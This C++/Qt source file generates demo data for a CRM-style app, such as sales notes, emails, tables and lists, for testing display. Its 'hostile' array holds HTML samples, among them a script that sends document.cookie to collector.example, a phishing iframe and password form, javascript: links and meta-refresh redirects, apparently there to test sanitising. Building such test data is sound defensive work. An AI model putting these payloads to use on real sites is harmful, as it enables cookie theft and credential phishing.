#include "app/demo/data/demo_texts.h"

#include <QStringList>

using namespace Qt::StringLiterals;

namespace klipy {

namespace {
constexpr QStringView sentences[] = {
    u"They want to start with a small team and grow if the first month goes well.",
    u"The price is fine; the start date is not.",
    u"Asked twice whether the data stays in the EU.",
    u"Currently three spreadsheets and a shared inbox, and nobody trusts any of them.",
    u"Needs a second opinion from finance before anything is signed.",
    u"Would like to see the import with their own file.",
    u"Mentioned that the old tool's contract ends on the 31st.",
    u"Happy with the pilot: 14 of 16 people used it every day.",
    u"Wants a discount for paying a year ahead (10 %?).",
    u"Promised an answer by Thursday.",
    u"Their lawyer asks for a change in section 7.",
    u"Two more offices (Cork and Malmö) could follow in spring.",
    u"Prefers a call to a long email thread.",
    u"Der Einkauf braucht noch zwei Referenzen.",
    u"次回は技術担当者も参加予定。",
    u"Security review is done: no blockers, five small questions.",
};

constexpr QStringView hostile[] = {
    u"<p>Your invoice is ready.</p><script>document.location='https://collector.example/?c='+document.cookie</script>"
    u"<img src=\"https://tracker.example/pixel.gif\" width=\"1\" height=\"1\" onerror=\"alert('read')\">"
    u"<style>* { display: none } body { background: url(https://tracker.example/bg.png) }</style>"
    u"<p>Please <a href=\"javascript:alert(1)\">open it here</a> today.</p>",
    u"<svg onload=alert(1)><p style=\"position:fixed;top:0;left:0;width:9999px;background:red\">You have won</p>"
    u"<iframe src=\"https://phish.example/login\"></iframe><form action=\"https://phish.example/\">"
    u"<input name=\"password\"></form><a href=\"https://phish.example/\">https://bank.example/</a>",
    u"<p>Unclosed <b>bold <i>and italic<p>A new paragraph &amp; an entity &#128512; &nbsp;&copy; &lt;not a tag&gt;"
    u"<table><tr><td>half a table<!-- a comment with <script> in it --><base href=\"https://phish.example/\">"
    u"<meta http-equiv=\"refresh\" content=\"0;url=https://phish.example/\"><object data=\"x\"></object>",
};

QString paragraph(SeededRandom& random, int length) {
    QStringList parts;
    for (int i = 0; i < length; ++i)
        parts.append(random.pick(sentences).toString());
    return parts.join(u' ');
}

QString greeting(const DemoSubject& subject) {
    return subject.person.isEmpty() ? u"Hello,"_s : u"Hi %1,"_s.arg(subject.person.toHtmlEscaped());
}

QString mailText(const DemoSubject& subject, SeededRandom& random) {
    QString html = u"<p>%1</p>"_s.arg(greeting(subject));
    for (int i = random.between(1, 3); i > 0; --i)
        html += u"<p>%1</p>"_s.arg(paragraph(random, random.between(1, 3)).toHtmlEscaped());
    return html + u"<p>Best regards,<br>Róisín<br><em>Larkspur Trading</em></p>"_s;
}

QString withList(const DemoSubject& subject, SeededRandom& random) {
    QString html = u"<p><strong>%1</strong></p><ul>"_s.arg(
        (subject.company.isEmpty() ? u"Next steps"_s : u"Next steps with %1"_s.arg(subject.company)).toHtmlEscaped());
    for (int i = random.between(2, 5); i > 0; --i)
        html += u"<li>%1</li>"_s.arg(random.pick(sentences).toString().toHtmlEscaped());
    return html + u"</ul><p>Recording: <a href=\"https://meet.example/r/%1\">https://meet.example/r/%1</a></p>"_s.arg(
                      random.between(1000, 9999));
}

QString withTable(SeededRandom& random) {
    QString html = u"<p>The offer, as discussed:</p><table><tr><th>Item</th><th>Seats</th><th>Price</th></tr>"_s;
    for (const QStringView item :
         {QStringView(u"Starter"), QStringView(u"Team"), QStringView(u"Archive &amp; export")}) {
        html += u"<tr><td>%1</td><td>%2</td><td>€ %3.00</td></tr>"_s.arg(item)
                    .arg(random.between(1, 80))
                    .arg(random.between(2, 400) * 10);
    }
    return html + u"</table><p>Valid for 30 days.</p>"_s;
}

QString withQuotes(const DemoSubject& subject, SeededRandom& random) {
    QString html = mailText(subject, random);
    for (int i = 0; i < 4; ++i)
        html = u"<p>%1</p><blockquote>On Tuesday somebody wrote:<br>%2</blockquote>"_s.arg(
            random.pick(sentences).toString().toHtmlEscaped(), html);
    return html;
}

QString veryLong(SeededRandom& random) {
    QString html;
    while (html.size() < 8000)
        html += u"<p>%1</p>"_s.arg(paragraph(random, 4).toHtmlEscaped());
    return html;
}
} // namespace

QString demoSummary(const DemoSubject& subject, SeededRandom& random) {
    if (subject.index % 101 == 7)
        return hostile[subject.index % 3].toString();
    const int draw = random.below(100);
    if (subject.channel == u"EMAIL") {
        if (draw < 60)
            return mailText(subject, random);
        if (draw < 72)
            return withQuotes(subject, random);
        return draw < 85 ? withTable(random) : withList(subject, random);
    }
    if (draw < 40)
        return paragraph(random, random.between(1, 3));
    if (draw < 50)
        return paragraph(random, 3) + u"\n\n"_s + paragraph(random, 4) + u"\n- "_s + paragraph(random, 1);
    if (draw < 80)
        return withList(subject, random);
    if (draw < 97)
        return u"<p>%1</p><p>%2</p>"_s.arg(paragraph(random, 2).toHtmlEscaped(), paragraph(random, 1).toHtmlEscaped());
    return veryLong(random);
}

QString demoNote(const DemoSubject& subject, SeededRandom& random) {
    if (random.percent(12)) {
        QStringList paragraphs;
        for (int i = random.between(3, 7); i > 0; --i)
            paragraphs.append(paragraph(random, 4));
        return paragraphs.join(u"\n\n"_s);
    }
    QString note = paragraph(random, random.between(1, 2));
    if (!subject.company.isEmpty() && random.percent(25))
        note.prepend(u"Our way into %1. "_s.arg(subject.company));
    return note;
}

QString demoSentence(SeededRandom& random) {
    return random.pick(sentences).toString();
}

QString demoWords(SeededRandom& random) {
    constexpr QStringView words[] = {u"amber",  u"north",  u"seasonal", u"pilot",      u"gold",     u"referral",
                                     u"spring", u"direct", u"outbound", u"trade fair", u"web form", u"partner"};
    return random.pick(words).toString() + u' ' + random.pick(words).toString();
}

} // namespace klipy
